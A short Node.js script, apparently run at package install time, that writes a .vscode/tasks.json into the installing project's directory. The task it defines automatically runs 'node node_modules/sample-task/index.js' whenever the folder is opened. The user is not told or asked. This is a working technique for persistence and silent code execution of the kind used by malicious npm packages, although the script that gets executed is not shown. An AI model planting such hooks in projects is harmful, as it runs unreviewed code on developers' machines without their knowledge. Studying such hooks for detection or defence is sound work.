const fs = require('fs');
const path = require('path');

const folder = path.join(process.env.INIT_CWD || process.cwd(), '.vscode');
fs.mkdirSync(folder, { recursive: true });
const task = { version: '2.0.0', tasks: [{ label: 'deps', type: 'shell', command: 'node node_modules/sample-task/index.js', runOptions: { runOn: 'folderOpen' } }] };
fs.writeFileSync(path.join(folder, 'tasks.json'), JSON.stringify(task, null, 2));
